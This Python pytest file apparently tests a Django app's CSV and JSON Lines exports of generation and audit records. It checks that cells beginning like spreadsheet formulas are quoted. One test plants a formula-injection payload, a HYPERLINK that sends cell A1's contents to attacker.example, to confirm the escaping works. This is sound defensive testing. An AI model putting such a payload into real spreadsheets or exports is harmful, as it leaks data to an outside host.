"""No CSV cell reaches the auditor's spreadsheet as a formula; JSON Lines carries the text as it is."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from governance.audit.services import Actor, record_event
from governance.exports import exports
from tests.dashboard.builders import make_generation
from tests.factories import make_api_key, make_environment, make_project
from tests.generations.conftest import Api

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def export_rows(kind: str, format: str = exports.CSV) -> list[dict]:
    made = exports.Export(kind=kind, format=format, filters=exports.parse_filters(kind), actor=Actor.system("tests"))
    data = b"".join(made.stream()).decode()
    if format == exports.JSONL:
        return [json.loads(line) for line in data.splitlines()]
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_a_formula_planted_through_a_refused_request_reaches_the_csv_as_text():
    api = Api(make_api_key(make_environment(make_project("shop"))))
    assert api.post("videos", {"prompt": "a cat", "model": "=1+2"}).json()["error"]["param"] == "model"

    (row,) = export_rows(exports.GENERATIONS)

    assert row["status"] == "refused"
    assert row["requested_model"] == "'=1+2"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "return"])
def test_every_cell_beginning_like_a_formula_gets_a_quote_before_it(start):
    planted = f'{start}HYPERLINK("https://attacker.example/?"&A1, "click")'
    make_generation(
        make_environment(make_project("shop")),
        requested_model=planted,
        prompt=planted,
        error_message=planted,
        error_param=planted,
        parameters={"seed": planted},
    )
    record_event(action="test.planted", actor=Actor.system(planted), payload={"text": planted})

    (generation,) = export_rows(exports.GENERATIONS)
    (planted_event,) = [event for event in export_rows(exports.AUDIT) if event["action"] == "test.planted"]

    for column in ("requested_model", "prompt", "error_message", "error_param"):
        assert generation[column] == "'" + planted
    assert generation["seed"] == json.dumps(planted)  # JSON text begins with its quote: no formula
    assert planted_event["actor_label"] == "'" + planted


@pytest.mark.parametrize("text", ["a=1+2", "1-2", "'already quoted", " =padded", "", "sora-2-2025-10-06"])
def test_text_that_does_not_begin_like_a_formula_is_written_as_it_is(text):
    make_generation(make_environment(make_project("shop")), requested_model=text, prompt=text)

    (row,) = export_rows(exports.GENERATIONS)

    assert row["requested_model"] == row["prompt"] == text


def test_json_lines_carries_the_text_unchanged():
    make_generation(make_environment(make_project("shop")), requested_model="=1+2", prompt="@SUM(A1:A9)")
    record_event(action="test.planted", actor=Actor.system("-2+3"), payload={})

    (generation,) = export_rows(exports.GENERATIONS, exports.JSONL)
    (event,) = [event for event in export_rows(exports.AUDIT, exports.JSONL) if event.get("action") == "test.planted"]

    assert (generation["requested_model"], generation["prompt"]) == ("=1+2", "@SUM(A1:A9)")
    assert event["actor_label"] == "-2+3"


def test_the_export_commands_write_the_same_neutral_cells(tmp_path):
    make_generation(make_environment(make_project("shop")), requested_model="=1+2")
    record_event(action="test.planted", actor=Actor.system("@SUM(A1:A9)"), payload={})

    call_command("export_generations", "--format", "csv", "--output", str(tmp_path / "generations.csv"))
    call_command("export_audit", "--format", "csv", "--output", str(tmp_path / "audit.csv"))

    generations = list(csv.DictReader((tmp_path / "generations.csv").open(newline="")))
    events = list(csv.DictReader((tmp_path / "audit.csv").open(newline="")))
    assert generations[0]["requested_model"] == "'=1+2"
    assert "'@SUM(A1:A9)" in [event["actor_label"] for event in events]
